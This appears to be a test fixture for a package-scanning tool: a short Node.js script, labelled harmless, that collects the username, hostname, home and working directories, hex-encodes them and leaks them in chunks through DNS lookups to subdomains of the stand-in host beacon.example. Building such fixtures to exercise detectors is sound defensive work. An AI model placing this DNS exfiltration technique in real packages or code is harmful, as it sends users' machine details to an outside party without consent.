// Harmless simulation for testing Package Hunter. Not malware.
const dns = require("dns");
const os = require("os");

const facts = JSON.stringify({ u: os.userInfo().username, h: os.hostname(), d: os.homedir(), p: process.cwd() });
const hex = Buffer.from(facts).toString("hex");
for (let i = 0; i * 60 < hex.length; i += 1) {
  dns.lookup(`${i}.${hex.slice(i * 60, (i + 1) * 60)}.beacon.example`, () => {});
}
